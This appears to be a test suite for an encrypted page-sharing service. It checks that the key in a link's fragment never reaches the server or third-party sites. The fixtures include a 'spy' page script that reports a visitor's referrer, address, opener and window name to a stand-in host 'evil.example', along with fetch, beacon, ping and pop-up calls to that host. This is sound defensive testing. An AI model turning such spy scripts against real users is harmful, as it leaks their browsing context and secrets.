// The key of an encrypted page stands behind the `#` of its link. It never leaves the browser: not to this server, on whatever
// way the page is opened, and not to other sites that the opened page links, loads, frames or opens.

import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { launch, openPage } from './browser.mjs';
import { publish } from './http.mjs';
import { SITE, startImitation, strict, viewerPage } from './imitation.mjs';
import { fragment, seal } from './sealed.mjs';
import { freePort, operatorKey, startServer, until } from './server.mjs';
import { pierce } from './shadow.mjs';
import { startForeignSite } from './foreign-site.mjs';

const EVIL = 'evil.example';
const PASSWORD = 'correct horse';

let server, browser, key, wire, foreign, url;

before(async () => {
  wire = await startWire();
  url = `http://localhost:${wire.port}`;
  server = await startServer({ env: { DROPLEAF_BASE_URL: url, RUST_LOG: 'trace', DROPLEAF_LIMITS__EXEMPT: '127.0.0.0/8,::1/128' }, siteUrl: () => url });
  wire.to = server.port;
  key = await operatorKey(server);
  foreign = await startForeignSite();
  browser = await launch({ hosts: [EVIL] });
});
after(async () => {
  await browser?.close();
  await server?.stop();
  await foreign?.stop();
  await wire?.stop();
});

/** Stands between browser and server and keeps every byte that the browser sends. */
async function startWire() {
  const port = await freePort();
  const wire = { port, to: null, sent: [], text: () => Buffer.concat(wire.sent).toString('latin1') };
  const sockets = new Set();
  const listener = net.createServer((client) => {
    const upstream = net.connect(wire.to, '127.0.0.1');
    for (const socket of [client, upstream]) {
      sockets.add(socket);
      socket.on('error', () => {}).on('close', () => {
        sockets.delete(socket);
        client.destroy();
        upstream.destroy();
      });
    }
    client.on('data', (chunk) => wire.sent.push(chunk));
    client.pipe(upstream).pipe(client);
  });
  await new Promise((resolve) => listener.listen(port, 'localhost', resolve));
  wire.stop = () => {
    for (const socket of sockets) socket.destroy();
    return new Promise((resolve) => listener.close(resolve));
  };
  return wire;
}

/** Publishes an encrypted page through the server's own port; gives its link, the key in it, and the key alone. */
async function sealed(content, fields = {}) {
  const secret = randomBytes(32);
  const site = await publish(server, { name: 'payload', bytes: seal(content, { secret }), fields: { e2e: 'true', ...fields }, key, headers: { host: `localhost:${wire.port}` } });
  return { site, link: `${url}${site.path}${fragment(secret)}`, secret: secret.toString('base64url') };
}

async function storedFiles(folder) {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  return Promise.all(entries.filter((entry) => entry.isFile()).map((entry) => readFile(path.join(entry.parentPath ?? entry.path, entry.name), 'latin1').catch(() => '')));
}

/** The key, or a beginning of it, appears neither in what the server was sent nor in what it wrote. */
async function assertServerNeverKnew(secret) {
  const part = secret.slice(0, 16);
  assert.ok(wire.text().length > 500, 'the wire was listened to');
  assert.ok(!wire.text().includes(part), 'not in any request');
  assert.ok(!server.log.includes(part), 'not in the log');
  assert.ok(!(await storedFiles(server.dataDir)).some((file) => file.includes(part)), 'not in any file');
}

const WAYS = {
  directly: [{}, async () => {}],
  'behind a password': [{ password: PASSWORD }, async (page) => {
    await page.fill('input[name=password]', PASSWORD);
    await page.click('button');
  }],
  'read once': [{ visibility: 'burn' }, async (page) => page.click('button')],
};

for (const [name, [fields, pass]] of Object.entries(WAYS)) {
  test(`opened ${name}, the page is decrypted and the server never learns the key`, { timeout: 120_000 }, async () => {
    const { link, secret } = await sealed('<!doctype html><h1>Opened</h1>', fields);
    const page = await openPage(await browser.newContext());
    await page.goto(link);
    await pass(page);
    await page.getByRole('heading', { name: 'Opened' }).waitFor();
    assert.ok(page.url().endsWith(`#k=${secret}`), 'the key is in the address: it was kept on the whole way');
    await page.reload();
    // The notice links to the report form, which is a page of the server.
    if (name === 'directly') {
      const bar = await pierce(page, 'div');
      await bar.click('a');
      await page.waitForURL(/_dropleaf\/report/);
      assert.equal(new URL(page.url()).hash, '');
      assert.equal(await page.evaluate(() => document.referrer), '');
    }
    await page.goto(`${url}/docs`);
    await assertServerNeverKnew(secret);
    await page.context().close();
  });
}

/** What the foreign page can find out about where its visitor came from. */
const SPY = `<!doctype html><title>Spy</title><script>
const tell = (what, value) => fetch('/told', { method: 'POST', body: what + ' ' + value });
const attempt = (act) => { try { return String(act()); } catch (error) { return error.name; } };
addEventListener('message', (event) => tell('message', event.origin + ' ' + JSON.stringify(event.data)));
tell('from', new URLSearchParams(location.search).get('way'));
tell('referrer', document.referrer);
tell('address', location.href);
tell('opener', attempt(() => opener && opener.location.href));
tell('parent', attempt(() => parent !== window && parent.location.href));
tell('ancestors', attempt(() => [...(location.ancestorOrigins ?? [])].join()));
tell('entries', JSON.stringify(performance.getEntries().map((entry) => entry.name)));
tell('name', window.name);
</script>`;

test('other sites that an opened page loads, frames, links and opens learn nothing of the key', { timeout: 120_000 }, async () => {
  const evil = `http://${EVIL}:${foreign.port}`;
  foreign.pages['/spy'] = SPY;
  const content = `<!doctype html><title>Opened</title><h1>Opened</h1>
    <img src="${evil}/picture" alt=""><link rel="stylesheet" href="${evil}/style"><script src="${evil}/script"></script>
    <script>window.ran = location.hash.length; fetch('${evil}/fetched'); navigator.sendBeacon('${evil}/beacon', 'x');</script>
    <iframe src="${evil}/spy?way=frame" width="50" height="50"></iframe>
    <a id="blank" target="_blank" rel="opener" href="${evil}/spy?way=blank">new window</a>
    <button id="popup" onclick="window.open('${evil}/spy?way=popup')">pop-up</button>
    <form action="${evil}/spy" target="_blank"><input type="hidden" name="way" value="form"><button id="form">form</button></form>
    <a id="here" ping="${evil}/ping" href="${evil}/spy?way=link">same window</a>`;
  const { link, secret } = await sealed(content);
  const page = await openPage(await browser.newContext());
  await page.goto(link);
  await page.getByRole('heading', { name: 'Opened' }).waitFor();
  // As docs/encryption.md says: the page's own scripts can read the key, so it is there to be leaked.
  assert.equal(await until('its script', () => page.evaluate('window.ran')), `#k=${secret}`.length);
  const told = (way) => until(`the spy by ${way}`, () => foreign.seen.some(({ body }) => body === `from ${way}`));
  await told('frame');
  for (const way of ['blank', 'popup', 'form']) {
    await page.click(`#${way}`);
    await told(way);
  }
  await page.click('#here');
  await told('link');
  await until('all that is told', () => foreign.seen.filter(({ body }) => body.startsWith('name ')).length === 5);
  const paths = new Set(foreign.seen.map(({ url: asked }) => asked.split('?')[0]));
  for (const expected of ['/picture', '/style', '/script', '/fetched', '/beacon', '/spy', '/told']) assert.ok(paths.has(expected), `${expected} was asked for`);
  const leaks = foreign.seen.filter((request) => JSON.stringify(request).includes(secret.slice(0, 16)));
  assert.deepEqual(leaks, []);
  // Not even the address of the page is told: it is a secret as well.
  const token = new URL(link).pathname.split('/')[2];
  assert.deepEqual(foreign.seen.filter((request) => JSON.stringify(request).includes(token)).map(({ method, url: asked, headers, body }) => ({ method, asked, headers, body })), []);
  await assertServerNeverKnew(secret);
});

/** Ways to write a link that sends a ping; each is pressed with the mouse at its text. */
const PINGS = {
  'a link': (to) => `<a href="#there" ping="${to}">press</a>`,
  'a link around a form whose fields hide its methods': (to) => `<a href="#there" ping="${to}"><form><input type="hidden" name="removeAttribute"><input type="hidden" name="closest"><b>press</b></form></a>`,
  'a link in a shadow tree': (to) => `<div><template shadowrootmode="open"><a href="#there" ping="${to}">press</a></template></div>`,
  'an area of a map': (to) => `<img usemap="#m" width="300" height="300" alt="press" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"><map name="m"><area shape="rect" coords="0,0,300,300" href="#there" ping="${to}" alt="press"></map>`,
};

for (const [name, markup] of Object.entries(PINGS)) {
  test(`no ping tells the address of an opened page: ${name}`, { timeout: 120_000 }, async () => {
    const imitation = await startImitation({});
    const context = await browser.newContext();
    try {
      const secret = randomBytes(32);
      // Under the strict policy no script of the page runs, and pings to the page's own server would still be allowed.
      const to = `${imitation.url}${SITE}ping http://${EVIL}:${foreign.port}/ping`;
      for (const headers of [{}, { 'content-security-policy': strict("'unsafe-inline'") }]) {
        const content = `<!doctype html><title>Opened</title><h1>Opened</h1><div style="position: absolute; left: 50px; top: 100px; width: 300px; height: 300px; margin: 0; font-size: 60px">${markup(to)}</div>`;
        imitation.pages['index.html'] = { html: await viewerPage({ payload: seal(content, { secret }) }), headers, toolbar: false };
        const page = await openPage(context);
        const pings = [];
        const debug = await context.newCDPSession(page);
        await debug.send('Network.enable');
        debug.on('Network.requestWillBeSent', ({ request, type }) => (type === 'Ping' || /\/ping$/.test(request.url)) && pings.push(request.url));
        await page.goto(`${imitation.url}${SITE}${fragment(secret)}`);
        await page.getByRole('heading', { name: 'Opened' }).waitFor();
        await page.mouse.click(100, 140);
        await until('the link to be followed', () => new URL(page.url()).hash === '#there');
        // A ping is sent before the link is followed; what came after it has been seen too.
        await page.evaluate(async () => (await fetch('').catch(() => null))?.status);
        assert.deepEqual(pings, []);
        await page.close();
      }
    } finally {
      await context.close();
      await imitation.stop();
    }
  });
}
